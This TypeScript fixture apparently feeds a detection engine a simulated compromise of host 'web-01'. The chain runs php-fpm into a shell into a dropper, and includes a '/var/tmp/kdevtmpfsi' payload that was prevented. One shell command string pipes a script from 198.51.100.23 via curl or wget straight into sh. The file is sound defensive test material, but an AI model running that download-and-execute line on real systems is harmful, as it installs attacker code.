import type { IdentifiedFact, Incident, NoticedPart } from '../../model/index.ts'
import type { RecordedHost } from './record.ts'

/** web-01 as if an agent with sensors had been there: its incident says what started what, as the engine makes it of detections. */
export function withChain(host: RecordedHost): RecordedHost {
  if (host.name !== 'web-01') return host
  const reports = host.reports.map(report =>
    report.kind === 'scan'
      ? { ...report, scan: { ...report.scan, incidents: report.scan.incidents.map(withNoticed) } }
      : report,
  )
  return { ...host, reports }
}

type Above = NoticedPart['chain'][number]

const fpm: Above = {
  pid: 912,
  startTime: 900,
  name: 'php-fpm8.2',
  path: '/usr/sbin/php-fpm8.2',
  command: 'php-fpm: pool www',
}
const shell: Above = {
  pid: 20_411,
  startTime: 611_390,
  name: 'sh',
  path: '/usr/bin/dash',
  command: 'sh -c (curl -fsSL 198.51.100.23/b.sh||wget -qO- 198.51.100.23/b.sh)|sh',
}

function withNoticed(incident: Incident): Incident {
  const processes = incident.members.filter(one => one.kind === 'process')
  const [first, second] = processes
  const job = incident.members.find(one => one.kind === 'autostart')
  const since = Date.parse(incident.since?.at ?? '2026-03-01T00:00:00Z')
  if (first === undefined || second === undefined || job === undefined) return incident
  const part = (number: number, subject: NoticedPart['subject'], chain: readonly Above[], fact?: IdentifiedFact) => ({
    detection: `01968c2f-7d2a-7c3e-9d53-00000000000${number}`,
    at: new Date(since + number * 1_000).toISOString(),
    times: 1,
    verdict: 'confirmed' as const,
    title: '',
    subject,
    service: 'php8.2-fpm.service',
    chain: [...chain],
    because: ['A service started a program from a temporary directory through a shell.'],
    responses: [],
    facts: fact === undefined ? [] : [fact.id],
  })
  const dropper: Above = { ...aboveOf(first), pid: first.pid }
  const noticed: NoticedPart[] = [
    part(1, processOf(first), [shell, fpm], first),
    part(2, processOf(second), [dropper, shell, fpm], second),
    part(3, { kind: 'autostart', path: job.path }, [dropper, shell, fpm], job),
    {
      ...part(4, { ...processOf(second), pid: 20_977, path: '/var/tmp/kdevtmpfsi', command: '/var/tmp/kdevtmpfsi' }, [
        dropper,
        shell,
        fpm,
      ]),
      times: 14,
      responses: [
        { kind: 'prevented', at: new Date(since + 4_000).toISOString(), outcome: 'done', detail: 'known content' },
      ],
    },
  ]
  const sentence = `Noticed: php8.2-fpm.service → php-fpm8.2 → sh → ${first.path}, as it started.`
  const entryPoints: Incident['entryPoints'] = [
    {
      what: 'web-application',
      because: 'what was noticed as it started came from php-fpm8.2 (pid 912)',
      confidence: 'medium',
      advice: 'Update the application that the web server runs, and look for web shells in its directories.',
    },
  ]
  return {
    ...incident,
    noticed,
    entryPoints,
    summary: [...incident.summary.slice(0, 1), sentence, ...incident.summary.slice(1)],
  }
}

type Process = Extract<IdentifiedFact, { kind: 'process' }>

function aboveOf({ startTime, name, path, command }: Process): Omit<Above, 'pid'> {
  return { startTime, name, command, ...(path === undefined ? {} : { path }) }
}

function processOf({ pid, startTime, path, command, user }: Process): NoticedPart['subject'] {
  return {
    ...{ kind: 'process' as const, pid, startTime, command },
    ...(path === undefined ? {} : { path }),
    ...(user === undefined ? {} : { user }),
  }
}
